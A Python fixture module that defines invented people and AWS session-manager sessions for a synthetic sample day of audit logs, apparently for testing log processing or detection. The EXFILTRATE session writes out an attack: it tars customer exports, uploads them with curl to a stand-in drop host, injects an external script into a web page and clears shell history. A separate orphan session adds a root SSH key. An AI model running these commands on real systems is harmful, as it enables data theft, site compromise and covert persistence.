"""What the made part of the sample day tells: who started which session, and what the terminal showed.

Only facts are here; make_sample.py turns them into records and log events. Names, addresses (from ranges kept
for documentation), keys and passwords are invented. The day's last session goes on after midnight.
"""

import dataclasses

WEB, DATABASE, BATCH = "i-0a1b2c3d4e5f60718", "i-0c77aa91e2d4b5f68", "i-0e55d0c4b3a291807"
ON_PREMISES = "mi-0f0e1d2c3b4a59687"
SHELL = "SSM-SessionManagerRunShell"


@dataclasses.dataclass(frozen=True)
class Person:
    """Somebody with credentials. With a role the name is the role session's, without one an IAM user's."""

    name: str
    address: str
    user_agent: str
    role: str | None = None
    from_console: bool = False


@dataclasses.dataclass(frozen=True)
class Session:
    """`suffix` is None when the start failed. `output` is (time, terminal lines) of each streamed upload;
    `upload` is the one text that an unstreamed session leaves at its end."""

    status: str
    person: Person
    time: str
    target: str
    suffix: str | None = None
    document: str | None = SHELL
    reason: str | None = None
    parameters: dict[str, list[str]] | None = None
    error: tuple[str, str] | None = None
    output: tuple[tuple[str, tuple[str, ...]], ...] = ()
    upload: tuple[str, str] | None = None
    end_time: str | None = None

    @property
    def id(self) -> str | None:
        return f"{self.person.name}-{self.suffix}" if self.suffix else None


CLI = "aws-cli/2.12.6 Python/3.11.4 Linux/5.15.0-76-generic exe/x86_64.ubuntu.22 command/ssm.start-session"
BOTO = "Boto3/1.26.165 Python/3.10.12 Linux/5.15.0-76-generic Botocore/1.29.165"
CONSOLE = "AWS Internal"
OPERATORS = "AWSReservedSSO_Operators_4f1c9a7d2b3e5f60"

MIA = Person("mia.keller@example.com", "203.0.113.24", CLI, OPERATORS)
ANA = Person("ana.souza@example.com", "203.0.113.31", CONSOLE, OPERATORS, from_console=True)
LI_NA = Person("li.na@example.com", "203.0.113.40", CLI, OPERATORS)
JAN = Person("jan-willem", "203.0.113.57", CLI)
TOM = Person("tom-okafor", "203.0.113.58", CLI)
RUNNER = Person("deploy.runner", "203.0.113.90", BOTO, "Deploy")
RELEASE = Person("release-bot", "203.0.113.91", BOTO, "Release")
BACKUP = Person("svc-backup", "198.51.100.23", CLI.replace("Linux/5.15.0-76-generic", "Linux/6.3.0-kali1-amd64"))
KIM = Person("kim_lee", "192.0.2.77", CLI)

RESTART = (
    (
        "2023-07-10T09:12:31Z",
        (
            "sh-5.2$ systemctl status orders --no-pager",
            "\ufffd orders.service - Orders API",
            "     Loaded: loaded (/etc/systemd/system/orders.service; enabled; preset: disabled)",
            "     Active: failed (Result: oom-kill) since Mon 2023-07-10 09:03:18 UTC; 9min ago",
            "   Main PID: 2211 (code=killed, signal=KILL)",
        ),
    ),
    (
        "2023-07-10T09:13:05Z",
        (
            "sh-5.2$ sudo journalctl -u orders -n 2 --no-pager",
            "Jul 10 09:03:17 web-1 orders[2211]: heap 1.9 GiB of 2.0 GiB, cache <sessions> & carts: 81234",
            "Jul 10 09:03:18 web-1 systemd[1]: orders.service: killed by the OOM killer",
            "sh-5.2$ sudo systemctl restart orders",
        ),
    ),
    (
        "2023-07-10T09:13:41Z",
        (
            "sh-5.2$ curl -s localhost:8080/health && echo",
            '{"status":"ok","uptime_s":24}',
            "sh-5.2$ exit",
            "exit",
        ),
    ),
)
READ_CONFIG = (
    (
        "2023-07-10T10:31:58Z",
        (
            "sh-5.2$ sudo cat /etc/orders/database.yml",
            "production:",
            "  host: orders-db.internal.example.com",
            "  user: orders_app",
            "  password: not-a-real-password",
            "",
            "sh-5.2$ psql -h orders-db.internal.example.com orders -c 'select count(*) from customers'",
            " count",
            "-------",
            " 48211",
            "(1 row)",
            "",
            "sh-5.2$ exti\b\bit",
            "exit",
        ),
    ),
)
EXFILTRATE = (
    (
        "2023-07-10T12:19:22Z",
        (
            "\u001b]0;ssm-user@web-1:~\u0007sh-5.2$ id",
            "uid=1001(ssm-user) gid=1001(ssm-user) groups=1001(ssm-user)",
            "\u001b]0;ssm-user@web-1:~\u0007sh-5.2$ sudo ls -s /var/lib/orders/exports",
            "total 91204",
            "45600 customers-2023-06.csv  45604 customers-2023-07.csv",
        ),
    ),
    (
        "2023-07-10T12:21:07Z",
        (
            "sh-5.2$ sudo tar czf /tmp/.o.tgz /var/lib/orders/exports",
            "tar: Removing leading `/' from member names",
            "sh-5.2$ curl -sT /tmp/.o.tgz https://drop.example.net/in/7f3a && echo sent",
            "sent",
        ),
    ),
    (
        "2023-07-10T12:24:50Z",
        (
            "sh-5.2$ cd /srv/orders/public; cat /tmp/s.html | sudo tee -a index.html",
            '<script src="https://cdn.example.net/c.js"></script>',
            "sh-5.2$ rm -f /tmp/.o.tgz /tmp/s.html; history -c; exit",
            "\u001b[0;31mexit\u001b[0m",
        ),
    ),
)
RELEASE_UPLOAD = "\n".join(
    (
        "",
        'Script started on 2023-07-10 13:45:10+00:00 [TERM="xterm-256color" TTY="/dev/pts/0" COLUMNS="200"]',
        "orders-api   1.42.0   deployed 2023-07-06 08:12 by release-bot",
        "orders-web   1.40.3   deployed 2023-06-29 15:40 by release-bot",
        "\u001b[33mpending\u001b[0m      1.43.0   waits for approval",
        "",
        'Script done on 2023-07-10 13:45:58+00:00 [COMMAND_EXIT_CODE="0"]',
        "",
    )
)
NIGHT_BATCH = (
    (
        "2023-07-10T23:54:02Z",
        (
            "sh-5.2$ tail -n 2 /var/log/batch/invoices.log",
            "23:50:11 INFO  invoice 20771 of 20980",
            "23:50:12 WARN  waiting for lock on table ledger",
            "sh-5.2$ sudo batchctl locks",
            "ledger  held by job 8812 (report-weekly) since 22:04",
        ),
    ),
    (
        "2023-07-10T23:59:20Z",
        (
            "sh-5.2$ sudo batchctl stop 8812 --reason INC-2047",
            "job 8812: stopping",
            "sh-5.2$ watch -n 5 batchctl status invoices",
        ),
    ),
    (
        "2023-07-11T00:07:45Z",
        (
            "invoices: 20980 of 20980, done 00:06:31",
            "sh-5.2$ sudo batchctl start report-weekly --at 02:00",
            "job 8840: scheduled 2023-07-11 02:00",
        ),
    ),
    ("2023-07-11T00:12:09Z", ("sh-5.2$ exit", "exit")),
)
NEW_KEY = (
    (
        "2023-07-10T17:26:10Z",
        (
            "sh-5.2$ sudo tee -a /root/.ssh/authorized_keys < key.pub",
            "ssh-ed25519 AAAAEXAMPLEKEYEXAMPLEKEYEXAMPLEKEY kim_lee@laptop",
            "sh-5.2$ sudo systemctl is-active sshd",
            "active",
            "sh-5.2$ exit",
            "exit",
        ),
    ),
)
REFUSED = (
    "AccessDenied",
    "User: arn:aws:iam::218007301253:user/svc-backup is not authorized to perform: ssm:StartSession "
    f"on resource: arn:aws:ec2:us-east-1:218007301253:instance/{DATABASE} "
    "because no identity-based policy allows the ssm:StartSession action",
)

SESSIONS = (
    Session(
        "captured",
        MIA,
        "2023-07-10T09:12:04Z",
        WEB,
        "t59j8gpq2ta8hniozstbnphqs8",
        reason="INC-2041: orders answers 502",
        output=RESTART,
        end_time="2023-07-10T09:13:52Z",
    ),
    Session(
        "captured",
        JAN,
        "2023-07-10T10:31:17Z",
        DATABASE,
        "0a7f16060613c408b",
        document=None,
        reason="review of the database configuration",
        output=READ_CONFIG,
        end_time="2023-07-10T10:32:41Z",
    ),
    Session("not_started", BACKUP, "2023-07-10T11:58:02Z", DATABASE, error=REFUSED),
    Session("captured", BACKUP, "2023-07-10T12:18:40Z", WEB, "0d9e8c7b6a5f41320", document=None, output=EXFILTRATE),
    Session(
        "captured",
        RELEASE,
        "2023-07-10T13:45:08Z",
        WEB,
        "794nnsxobsg4p2hiur6gxu9a9e",
        document="AWS-StartInteractiveCommand",
        parameters={"command": ["/opt/orders/release.sh status"]},
        upload=("2023-07-10T13:46:03Z", RELEASE_UPLOAD),
    ),
    Session(
        "not_loggable",
        JAN,
        "2023-07-10T14:05:33Z",
        BATCH,
        "0b2d4f6a8c0e13579",
        document="AWS-StartPortForwardingSessionToRemoteHost",
        parameters={
            "host": ["orders-db.internal.example.com"],
            "portNumber": ["5432"],
            "localPortNumber": ["15432"],
        },
    ),
    Session(
        "not_loggable",
        RUNNER,
        "2023-07-10T14:32:19Z",
        WEB,
        "q3vw81mzk0c7x5tn2yhd4r6bpa",
        document="AWS-StartSSHSession",
        parameters={"portNumber": ["22"]},
    ),
    Session(
        "missing",
        LI_NA,
        "2023-07-10T15:20:44Z",
        ON_PREMISES,
        "m7kd02xqwz5t8ybn4cph1f3rva",
        reason="OPS-311: disk full",
    ),
    Session(
        "not_started",
        MIA,
        "2023-07-10T16:10:27Z",
        BATCH,
        reason="INC-2043",
        error=("TargetNotConnected", f"{BATCH} is not connected."),
    ),
    Session(
        "pending",
        TOM,
        "2023-07-10T23:40:12Z",
        BATCH,
        "0c1e2d3f4b5a69788",
        reason="INC-2047: invoices stand still",
    ),
    Session(
        "captured",
        ANA,
        "2023-07-10T23:52:30Z",
        BATCH,
        "h8s2jv6dq0wz4n9xk3mt7b5cyr",
        reason="INC-2047: invoices stand still",
        output=NIGHT_BATCH,
    ),
)

# Its StartSession record was never delivered.
ORPHAN = Session("orphan", KIM, "2023-07-10T17:25:30Z", DATABASE, "0f1e2d3c4b5a69788", output=NEW_KEY)
